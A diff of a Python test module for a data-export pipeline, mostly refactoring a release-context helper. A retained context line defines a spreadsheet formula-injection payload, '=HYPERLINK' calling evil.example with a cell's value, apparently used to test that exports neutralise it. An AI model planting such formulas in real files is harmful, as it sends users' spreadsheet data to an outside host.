@@ -19,6 +19,7 @@ from pipelines.load.db import open_session
 from pipelines.load.feeds import ReleaseContext
 from pipelines.load.published import iter_published
 from pipelines.transform.bundle import ActionBundle
+from tests.load import contexts
 
 TODAY = dt.date(2025, 6, 1)
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
@@ -46,16 +47,7 @@ def hostile(db: orm.Session) -> Iterator[ActionBundle]:
 
 
 def release(folder: Path, engine: Engine, db: orm.Session) -> ReleaseContext:
-    return ReleaseContext(
-        run_id="test",
-        export_date=TODAY,
-        generated_at=dt.datetime(2025, 6, 1, 2, tzinfo=dt.UTC),
-        folder=folder,
-        previous=None,
-        offer=lambda: hostile(db),
-        session=lambda: open_session(engine),
-        today=TODAY,
-    )
+    return contexts.release(folder, engine, db, offer=lambda: hostile(db))
 
 
 def read_offre(folder: Path) -> dict[str, list[object]]:
